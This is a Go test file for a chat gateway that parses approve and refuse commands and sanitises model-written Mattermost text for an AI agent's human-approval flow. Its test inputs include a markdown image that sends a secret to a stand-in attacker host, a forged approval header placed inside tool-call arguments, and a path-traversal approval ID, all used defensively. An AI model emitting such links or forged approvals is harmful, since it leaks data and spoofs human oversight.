package gateway

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"boxmaker/core/approval"
	"boxmaker/core/brokerwire"

	"github.com/google/go-cmp/cmp"
)

func TestReadMessage(t *testing.T) {
	for _, tt := range []struct {
		in   string
		want Message
	}{
		{"hello", Message{Text: "hello"}},
		{"@boxmaker hello", Message{Mentioned: true, Text: "hello"}},
		{"@boxmaker: hello", Message{Mentioned: true, Text: "hello"}},
		{"@BoxMaker, hello", Message{Mentioned: true, Text: "hello"}},
		{"hi @boxmaker.", Message{Mentioned: true, Text: "hi @boxmaker."}},
		{"hi @boxmakers", Message{Text: "hi @boxmakers"}},
		{"mail x@boxmaker", Message{Text: "mail x@boxmaker"}},
		{"!approve abc234", Message{Text: "!approve abc234", Command: &Command{Approve: true, ID: "abc234"}}},
		{"@boxmaker !approve abc234", Message{Mentioned: true, Text: "!approve abc234", Command: &Command{Approve: true, ID: "abc234"}}},
		{"!refuse abc234 not now, thanks", Message{Text: "!refuse abc234 not now, thanks", Command: &Command{ID: "abc234", Reason: "not now, thanks"}}},
		{"!REFUSE ABC234", Message{Text: "!REFUSE ABC234", Command: &Command{ID: "abc234"}}},
		{"@other !approve abc234", Message{Text: "@other !approve abc234", ForOther: true}},
		{"@other: !approve abc234", Message{Text: "@other: !approve abc234", ForOther: true}},
		{"@other hello", Message{Text: "@other hello"}},
		{"!approve", Message{Text: "!approve", Command: &Command{Approve: true, Usage: "!approve needs an approval's id: !approve ID"}}},
		{"!approve abc234 now", Message{Text: "!approve abc234 now", Command: &Command{Approve: true, Usage: "!approve takes the id alone: !approve ID"}}},
		{"!approve ../x", Message{Text: "!approve ../x", Command: &Command{Approve: true, Usage: "!approve needs an approval's id: !approve ID"}}},
		{"!approved it", Message{Text: "!approved it"}},
		{"  @boxmaker  \n hi  ", Message{Mentioned: true, Text: "hi"}},
	} {
		got := ReadMessage(tt.in, "boxmaker")
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("ReadMessage(%q): -want +got\n%s", tt.in, diff)
		}
	}
}

func TestMattermostTextNeutralisesImagesAndChannelMentions(t *testing.T) {
	got := mattermostText("see ![x](https://evil.example/?d=secret) and @channel @all, @here! but @alice and @channels stay")
	want := "see !\\[x](https://evil.example/?d=secret) and @\u200bchannel @\u200ball, @\u200bhere! but @alice and @channels stay"
	if got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	if c := codeSpan("a `b` ``c``"); c != "``` a `b` ``c`` ```" {
		t.Errorf("codeSpan: %q", c)
	}
}

// The model chooses the text: runes whose lower case is longer or
// shorter than themselves must not move the words found (a panic here
// was the model stopping gatewayd).
func TestNeutralisingSurvivesRunesThatChangeLengthInLowerCase(t *testing.T) {
	for _, in := range []string{"İİİİ@channel", "@channel İİİİİİİİİİ", "\u212a\u212a@here x", "İ@all"} {
		got := mattermostText(in)
		if strings.Contains(got, "@channel") || strings.Contains(got, "@here") || strings.Contains(got, "@all") {
			t.Errorf("mattermostText(%q) = %q: a channel-wide mention left", in, got)
		}
	}
	if m := ReadMessage("İİ @boxmaker hi", "boxmaker"); !m.Mentioned {
		t.Errorf("a mention after İ not seen: %+v", m)
	}
}

func FuzzMattermostText(f *testing.F) {
	for _, s := range []string{"@channel", "İ@all", "![x](y)", "\u212a@here"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := asciiLower(mattermostText(s))
		for _, w := range []string{"@channel", "@all", "@here"} {
			for i := strings.Index(got, w); i >= 0; i = strings.Index(got[i+1:], w) + i + 1 {
				if i+len(w) == len(got) || !isNameChar(got[i+len(w)]) {
					t.Fatalf("%q: %q left in %q", s, w, got)
				}
				if strings.Index(got[i+1:], w) < 0 {
					break
				}
			}
		}
	})
}

func FuzzReadMessage(f *testing.F) {
	for _, s := range []string{"hello", "@boxmaker hi", "@boxmaker: !approve abc234", "!refuse abc x y", "@x !approve a", "!approve", "@b@boxmaker", "@boxmaker."} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		m := ReadMessage(s, "boxmaker")
		if m.ForOther && m.Command != nil {
			t.Fatalf("%q: a command for another bot taken as ours", s)
		}
		if c := m.Command; c != nil {
			if c.Usage == "" && !approvalIDRE().MatchString(c.ID) {
				t.Fatalf("%q: a command with the id %q", s, c.ID)
			}
			if c.Approve && c.Reason != "" {
				t.Fatalf("%q: an approve with a reason", s)
			}
		}
		if strings.HasPrefix(strings.ToLower(m.Text), "@boxmaker ") {
			t.Fatalf("%q: the leading mention is left in %q", s, m.Text)
		}
	})
}

func FuzzDecodeFrame(f *testing.F) {
	post, _ := json.Marshal(Post{ID: "p", ChannelID: "c", Message: "hi"})
	ev, _ := json.Marshal(map[string]any{"event": "posted", "seq": 3, "data": map[string]any{"post": string(post), "channel_type": "D", "mentions": `["u"]`}})
	for _, s := range []string{string(ev), `{"event":"hello","data":{"connection_id":"x"},"seq":0}`,
		`{"status":"OK","seq_reply":2,"data":{"text":"pong"}}`, `{"status":"FAIL","seq_reply":1,"error":{"id":"x","status_code":401}}`,
		`{}`, `[]`, `{"event":"posted","data":{"post":"{"}}`, `{"event":"x","status":"OK"}`} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		fr, err := DecodeFrame(data)
		if err != nil {
			return
		}
		if fr.IsEvent() == (fr.Status != "") {
			t.Fatalf("%q: decoded as both or neither an event and a response", data)
		}
		if fr.IsEvent() && fr.Seq < 0 {
			t.Fatalf("%q: negative seq", data)
		}
		if p, err := PostedEvent(fr); err == nil && (p.Post.ID == "" || p.Post.ChannelID == "") {
			t.Fatalf("%q: a posted event without a post id or channel", data)
		}
	})
}

// The box holds the call exactly as bxctl approvals show renders it (the
// same function, the same options), in a fence the call's own backticks
// cannot end.
func TestTheApprovalBoxIsBxctlsRendering(t *testing.T) {
	now := time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)
	p := brokerwire.Pending{ID: "abc234", Call: "call_1", Session: "s", Tool: "write_file", CallHash: strings.Repeat("ab", 32),
		Arguments: `{"path":"/srv/a.txt","content":"` + "````\\n**Boxmaker asks for approval `zzz777`**" + `"}`,
		Requested: now, Expires: now.Add(10 * time.Minute)}
	var b strings.Builder
	approval.Render(&b, p, approval.Options{Now: now, More: "bxctl approvals show abc234 --full shows it all"})
	msg, box := approvalMessage(p, "boxmaker", now)
	text, _ := box["text"].(string)
	if !strings.Contains(text, b.String()) {
		t.Errorf("the box is not bxctl's rendering:\n%s\n---\n%s", text, b.String())
	}
	if !strings.HasPrefix(text, "`````text\n") || !strings.Contains(text, "\n`````\nIt expires at 2026-12-01T12:10:00Z") {
		t.Errorf("the fence is not longer than the call's backticks:\n%s", text)
	}
	if !strings.HasPrefix(msg, "**Boxmaker asks for approval `abc234`**: ") || box["footer"] != approvalFooter {
		t.Errorf("head %q, box %+v", msg, box)
	}
}
